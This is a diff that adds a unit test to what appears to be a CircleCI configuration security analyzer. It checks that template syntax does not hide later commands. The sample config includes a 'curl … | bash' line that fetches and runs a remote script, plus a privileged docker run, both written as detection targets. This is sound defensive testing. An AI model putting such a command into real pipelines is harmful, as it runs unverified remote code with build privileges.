@@ -61,6 +61,25 @@ describe('the CircleCI analyzer', () => {
     ]);
   });
 
+  it('reads a << parameters.x >> or << pipeline.… >> template as one word, not as a heredoc that hides the commands after it', () => {
+    const code = [
+      'version: 2.1',
+      'jobs:',
+      '  deploy:',
+      '    parameters:',
+      '      env: { type: string }',
+      '    steps:',
+      '      - run: |',
+      '          echo << parameters.env >> > target',
+      '          docker run -v << pipeline.git.branch >>:/b --privileged acme/deploy:2',
+      '          curl -s https://x.example/i.sh | bash',
+    ].join('\n');
+    expect(analyzeConfig(code).findings.map((f) => [f.ruleId, f.location.startLine])).toEqual([
+      ['sh.docker-run-host-access', 9],
+      ['sh.curl-pipe-shell', 10],
+    ]);
+  });
+
   it('takes only .circleci/config.yml, and reports a file that is not YAML as a scan error of that file', () => {
     expect(analyzeConfig(CONFIG, 'ci/config.yml').findings).toEqual([]);
     const { errors } = analyzeConfig('jobs: [unclosed\n');
